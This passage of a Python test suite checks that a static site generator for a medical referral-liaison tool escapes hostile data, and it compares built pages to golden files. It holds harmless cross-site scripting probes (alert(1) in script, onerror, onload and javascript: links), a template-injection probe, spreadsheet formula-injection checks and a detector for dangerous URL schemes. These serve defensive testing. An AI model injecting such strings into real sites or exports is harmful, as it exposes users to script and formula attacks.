        "{% for s in site.services %}- {{ s.name }}: {{ s.description }}\n{% endfor %}\n\n"
        "Notes: {{ site.practice.name }}\n",
        encoding="utf-8")
    return dest


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, module_cache):
    base = tmp_path_factory.mktemp("hostile")
    root = write_hostile_site(base / "root")
    out = base / "out"
    code, _stdout, stderr = build(root, out)
    assert code == 0, stderr
    return root, out


def _url_is_dangerous(value: str) -> bool:
    squashed = re.sub(r"[\x00-\x20]", "", value).lower()
    return any(s in squashed for s in ("javascript:", "vbscript:", "data:text/html"))


def test_hostile_data_builds_and_every_record_page_exists(hostile, example_build):
    _root, out = hostile
    for pid in ("nina-vargas", "alan-cho", "ruth-kessler"):
        assert (out / f"physicians/{pid}/index.html").is_file()
    assert (out / "presentations/venous-basics/mountain-view-family-medicine/index.html").is_file()
    assert len(html_files(out)) == len(html_files(example_build[3]))


def test_hostile_data_no_foreign_script_iframe_or_embedding_tag(hostile):
    _root, out = hostile
    problems = []
    for path in html_files(out):
        rel = path.relative_to(out).as_posix()
        raw = path.read_text(encoding="utf-8")
        # every script is one of the site's own files, with nothing inline
        empty_scripts = re.findall(r"<script\b[^>]*>\s*</script>", raw, re.I)
        if raw.lower().count("<script") != len(empty_scripts) or not empty_scripts:
            problems.append(f"{rel}: {raw.lower().count('<script')} '<script' in the raw HTML, "
                            f"{len(empty_scripts)} of them our own empty script elements")
        for bad in ("<iframe", "<object", "<embed", "<form", "<base", "<style", "<frame", "<math"):
            if bad in raw.lower():
                problems.append(f"{rel}: {bad}")
        page = Page(raw)
        scripts = [dict(a) for t, a in page.tags if t == "script"]
        if len(scripts) != len(empty_scripts) or \
                not all(own_asset(path, a.get("src"), out, ".js") for a in scripts):
            problems.append(f"{rel}: scripts {scripts}")
        links = [dict(a) for t, a in page.tags if t == "link"]
        if not links or not all(allowed_link(path, a, out) for a in links):
            problems.append(f"{rel}: links {links}")
        metas = [dict(a) for t, a in page.tags if t == "meta" and "http-equiv" in dict(a)]
        if [m["http-equiv"].lower() for m in metas] != ["content-security-policy"]:
            problems.append(f"{rel}: http-equiv metas {metas}")
    assert not problems, "\n".join(problems)


def test_hostile_data_no_event_handler_attribute(hostile):
    _root, out = hostile
    problems = []
    for path in html_files(out):
        for tag, attrs in Page(path.read_text(encoding="utf-8")).tags:
            for name, value in attrs:
                if name.lower().startswith("on") or name.lower() == "style":
                    problems.append(f"{path.relative_to(out)}: <{tag} {name}={value!r}>")
    assert not problems, "\n".join(problems)


def test_hostile_data_no_javascript_url(hostile):
    _root, out = hostile
    problems = []
    for path in html_files(out):
        for tag, attrs in Page(path.read_text(encoding="utf-8")).tags:
            for name, value in attrs:
                if name in URL_ATTRS and value and _url_is_dangerous(value):
                    problems.append(f"{path.relative_to(out)}: <{tag} {name}={value!r}>")
    assert not problems, "\n".join(problems)


def test_hostile_data_no_remote_load_and_links_still_resolve(hostile):
    _root, out = hostile
    problems = [p for p in link_problems(out)
                # a Markdown image may name a file of the site (src=x): only remote loads count
                if "no such file" not in p or "<img src='x'>" not in p]
    assert not problems, "\n".join(problems)
    assert not head_problems(out)


def test_hostile_data_svg_only_as_our_charts(hostile):
    _root, out = hostile
    problems = []
    for path in html_files(out):
        for tag, attrs in Page(path.read_text(encoding="utf-8")).tags:
            if tag == "svg":
                names = {k.lower() for k, _v in attrs}
                # our charts, and the meters of the compliance page (the second edition's
                # example sets compliance.annual_limit)
                ours = {"chart", "meter"} & set((dict(attrs).get("class") or "").split())
                if not names <= CHART_SVG_ATTRS or not ours:
                    problems.append(f"{path.relative_to(out)}: <svg {attrs}>")
            if tag in ("foreignobject", "use", "animate", "set", "image", "a") and \
                    any(k.lower() in ("href", "xlink:href") and _url_is_dangerous(v or "")
                        for k, v in attrs):
                problems.append(f"{path.relative_to(out)}: <{tag} {attrs}>")
    assert not problems, "\n".join(problems)


ESCAPED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&lt;svg onload=alert(1)&gt;",
    "&lt;iframe src=",
    "&lt;a href=",
    "[click](javascript:alert(1))",  # a text field is not Markdown: shown as typed
    "{{ 7*7 }}",  # and not a template
]


@pytest.mark.parametrize("rel", [
    "index.html", "physicians/index.html", "physicians/nina-vargas/index.html",
    "physicians/ruth-kessler/index.html", "practices/index.html",
    "practices/mountain-view-family-medicine/index.html", "team/lena-brooks/index.html",
    "activity/index.html", "follow-ups/index.html", "training/index.html",
    "training/referral-source-basics/index.html", "presentations/index.html",
    "referrals/index.html",
])
def test_hostile_text_fields_are_shown_escaped(hostile, rel):
    _root, out = hostile
    raw = (out / rel).read_text(encoding="utf-8")
    missing = [s for s in ESCAPED if s not in raw]
    assert not missing, f"{rel}: escaped payload not found: {missing}"


def test_hostile_physician_brief_shows_every_text_field_escaped(hostile):
    _root, out = hostile
    raw = (out / "practices/mountain-view-family-medicine/index.html").read_text(encoding="utf-8")
    text = Page(raw).text
    assert JINJA_ONLY in text
    for label in ("name", "address", "city", "state", "zip", "phone", "fax", "website",
                  "best_visit_times", "staff name", "staff role", "staff notes", "tag",
                  "summary", "need", "met", "task", "grace-holloway", "marcus-bell",
                  "lena-brooks"):
        assert f"{label} {SCRIPT}" in text, label
    raw = (out / "physicians/ruth-kessler/index.html").read_text(encoding="utf-8")
    text = Page(raw).text
    for label in ("ruth-kessler", "credentials", "specialty", "email", "phone", "interest",
                  "tag", "summary"):
        assert f"{label} {SCRIPT}" in text, label
    assert f"tier {SCRIPT}" in text  # a tier whose key is a payload


def test_hostile_markdown_is_sanitized_not_dropped(hostile):
    _root, out = hostile
    raw = (out / "practices/mountain-view-family-medicine/index.html").read_text(encoding="utf-8")
    assert 'class="note-body"' in raw
    page = Page(raw)
    assert "mixed case" in page.text and "entity" in page.text and "div" in page.text
    guide = Page((out / "training/referral-source-basics/index.html").read_text(encoding="utf-8"))
    assert "Section" in guide.text and "mixed case" in guide.text


def test_hostile_deck_slides_are_sanitized_and_data_not_evaluated(hostile):
    _root, out = hostile
    raw = (out / "presentations/venous-basics/mountain-view-family-medicine/index.html").read_text(
        encoding="utf-8")
    slides = raw[raw.index("<main"):raw.index("</main>")]
    assert "<script" not in slides.lower() and "<iframe" not in slides.lower()
    # a data value that looks like Jinja is shown as written, never evaluated
    assert f"EHR: {JINJA_ONLY}" in Page(slides).text
    assert "49" not in slides
    assert slides.count("evaluated") == slides.count("{% if true %}evaluated{% endif %}")
    page = Page(slides)
    assert "grace-holloway" in page.text and "marcus-bell" in page.text
    assert "Slide one" in page.text
    generic = (out / "presentations/venous-basics/index.html").read_text(encoding="utf-8")
    assert "Our practice" in Page(generic[generic.index("<main"):generic.index("</main>")]).text


def test_data_values_in_deck_slides_are_shown_as_written(example_site, tmp_path):
    practice = example_site / "data/practices/mountain-view-family-medicine.yaml"
    practice.write_text(practice.read_text(encoding="utf-8").replace(
        "name: Mountain View Family Medicine", 'name: "Mountain View <North> *Family* Medicine"'),
        encoding="utf-8")
    out = tmp_path / "out"
    assert build(example_site, out)[0] == 0
    raw = (out / "presentations/venous-basics/mountain-view-family-medicine/index.html").read_text(
        encoding="utf-8")
    first_slide = raw[raw.index('id="slide-1"'):raw.index('id="slide-2"')]
    heading = re.search(r"<h1>(.*?)</h1>", first_slide, re.S).group(1)
    assert heading == "Venous disease basics for Mountain View &lt;North&gt; *Family* Medicine"


def test_hostile_csv_exports_neutralize_formulas(hostile):
    _root, out = hostile
    rows = list(csv.DictReader(io.StringIO(
        (out / "exports/interactions.csv").read_text(encoding="utf-8"), newline="")))
    call = [r for r in rows if r["date"] == "2026-11-26"]
    assert len(call) == 1
    assert call[0]["summary"] == "'" + FORMULA
    assert call[0]["needs"].startswith("'@SUM(1+1)")
    for name in ("interactions.csv", "physicians.csv", "referrals-by-month.csv"):
        data = (out / "exports" / name).read_text(encoding="utf-8")
        for row in csv.reader(io.StringIO(data, newline="")):
            for cell in row:
                assert not re.match(r"[=+@\t\r]|-(?![0-9]+$)", cell), (name, cell)


# ----------------------------------------------------------------------- 5. golden pages

GOLDEN_PAGES = [
    "index.html",
    "physicians/index.html",
    "physicians/nina-vargas/index.html",
    "practices/mountain-view-family-medicine/index.html",
    "team/lena-brooks/index.html",
    "referrals/index.html",
]


@pytest.mark.parametrize("rel", GOLDEN_PAGES)
def test_golden_page(golden_build, rel):
    got = (golden_build / rel).read_bytes()
    golden = GOLDEN / rel
    if UPDATE_GOLDEN:
        golden.parent.mkdir(parents=True, exist_ok=True)
        golden.write_bytes(got)
        return
    assert golden.is_file(), (f"missing golden file {golden}; create it with "
                              "LIAISON_UPDATE_GOLDEN=1 and read it before committing")
    expected = golden.read_bytes()
    if got != expected:
        import difflib

        diff = "\n".join(list(difflib.unified_diff(
            expected.decode("utf-8").splitlines(), got.decode("utf-8").splitlines(),
            f"golden/{rel}", f"built/{rel}", lineterm=""))[:80])
        raise AssertionError(f"{rel} differs from its golden file "
                             f"(LIAISON_UPDATE_GOLDEN=1 rewrites it):\n{diff}")


def _section(page_text: str, heading: str, next_heading: str | None = None) -> str:
    start = page_text.index(heading)
    end = page_text.index(next_heading, start) if next_heading else len(page_text)
    return page_text[start:end]


def test_key_pages_show_the_facts_of_the_example(golden_build):
    """What each golden page must say, from the first edition's data and its
    expected-stats-2026-11-26.json."""
    out = golden_build

    def text(rel):
        return Page((out / rel).read_text(encoding="utf-8")).text

    nina = text("physicians/nina-vargas/index.html")
    assert "Nina Vargas, MD" in nina
    assert "Obstetrics & Gynecology at Hendersonville Women's Health · liaison Lena Brooks" in nina
    assert re.search(r"\bactive\b", _section(nina, "Nina Vargas, MD", "Referrals, 90 days"))
    assert "Referrals, 365 days 3 " in nina and "previous 365: 1" in nina
    assert "Referrals, 90 days 0 " in nina and "previous 90: 1" in nina
    assert "Last referral 2026-07-30 119 days ago" in nina
    assert "Last visit 2026-10-12 45 days ago" in nina
    assert "Contacts, 365 days 4 last 2026-11-23" in nina
    assert "NPI 1477209534" in nina and "Tier C" in nina and "champion" in nina
    assert "First referral 2025-11-26" in nina
    for alert in ("Lapsed", "Declining", "Visit overdue", "New referrer"):
        assert alert not in nina
    # her five interactions, the 2025-11-26 visit (age 365) included, newest first
    dates = re.findall(r"(\d{4}-\d{2}-\d{2}) · (\w+)", _section(nina, "Last interactions"))
    assert dates == [("2026-11-23", "email"), ("2026-10-12", "event"), ("2026-07-29", "visit"),
                     ("2026-01-30", "presentation"), ("2025-11-26", "visit")]

    mv = text("practices/mountain-view-family-medicine/index.html")
    assert "410 Merrimon Avenue, Asheville, NC 28804 · liaison Lena Brooks" in mv
    assert "Referrals, 365 days 11 " in mv and "previous 365: 2" in mv
    assert "Physicians 2 " in mv
    assert "Last contact 2026-11-26 today" in mv
    assert "Best visit times Tuesday and Thursday after 2 pm" in mv
    assert "Carla Jennings — office manager" in mv and "Schedules all provider lunches." in mv
    assert "Devon Marsh — referral coordinator" in mv
    assert re.search(r"Grace Holloway ?, MD Family Medicine", mv)
    assert re.search(r"Marcus Bell ?, NP Family Medicine", mv)
    assert "Marcus Bell: Declining: 1 referral in the last 90 days against 3 in the 90 before." in mv
    assert "Marcus Bell: Visit overdue: tier B wants a visit every 60 days; last in-person visit " \
           "2026-09-26 (61 days ago)." in mv
    assert "Grace Holloway:" not in mv  # no alert for her
    assert "Ask the lab about report turnaround" in mv and "40 days overdue" in mv
    assert "Faster ultrasound reports" in mv
    assert "Two-provider primary care office; our longest-standing referral partner." in mv
    assert "Venous disease basics" in mv

    lena = text("team/lena-brooks/index.html")
    assert "Physicians 5 " in lena
    assert "Contacts, 90 days 8 5 in person" in lena
    assert "Referrals, 365 days 18 " in lena
    assert "Open follow-ups 3 2 overdue" in lena
    plan = _section(lena, "Call plan", "Open follow-ups they own")
    order = [plan.index(p) for p in ("Mountain View Family Medicine", "French Broad Podiatry",
                                      "Hendersonville Women's Health")]
    assert order == sorted(order), "the practice needing most attention comes first"
    assert "best: Tuesday and Thursday after 2 pm" in plan and "best: Wednesday mornings" in plan
    assert "James Whitley" not in plan  # no effective liaison
    owned = _section(lena, "Open follow-ups they own", "Activity in the last 90 days")
    assert [t for t in ("Ask the lab about report turnaround", "Send the ultrasound criteria card",
                        "Drop off the holiday schedule") if t in owned] == [
        "Ask the lab about report turnaround", "Send the ultrasound criteria card",
        "Drop off the holiday schedule"]
    assert "Email the scheduling line card" not in owned  # Owen Price's
    assert "Confirm a lunch date" not in owned  # done
    recent = _section(lena, "Activity in the last 90 days", "Trainings")
    assert len(re.findall(r"\d{4}-\d{2}-\d{2} · \w+", recent)) == 8
    assert "2026-08-28" not in recent and "2026-12-01" not in recent
    assert "2026-02-10" in _section(lena, "Trainings") and "92" in _section(lena, "Trainings")

    dash = text("index.html")
    assert "Referrals, 90 days 16 +33% previous 90: 12" in dash
    assert "Referrals, 365 days 36 +260% previous 365: 10" in dash
    assert "Source captured 94.4%" in dash
    assert "In-person visits, 90 days 5" in dash
    assert "Open follow-ups 4 3 overdue" in dash
    assert "Physicians 6 3 practices" in dash
    assert "1 declining referrer" in dash and "1 lapsed referrer" in dash
    assert "1 new referrer" in dash and "2 physicians overdue for a visit" in dash
    assert "3 overdue follow-ups" in dash

    directory = text("physicians/index.html")
    assert "6 referring physicians" in directory
    for name in ("Alan Cho", "Grace Holloway", "James Whitley", "Marcus Bell", "Nina Vargas",
                 "Ruth Kessler"):
        assert name in directory

    ref = text("referrals/index.html")
    assert "All referrals 46" in ref and "Source capture rate 94.4%" in ref
    assert "New referrers (1)" in ref and "Lapsed referrers (1)" in ref
    assert "Declining referrers (1)" in ref
    assert "Referred 36; Scheduled 23" in (out / "referrals/index.html").read_text()
    months = re.findall(r"<tr><td>(\d{4}-\d{2})</td><td class=\"num\">(\d+)</td>",
                        (out / "referrals/index.html").read_text())
    expected = json.loads((SPEC_EXAMPLE_FIRST_EDITION / "expected-stats-2026-11-26.json")
                          .read_text())["months"]
    assert [(m, int(n)) for m, n in months] == [(m["month"], m["referrals"])
                                                for m in reversed(expected)]
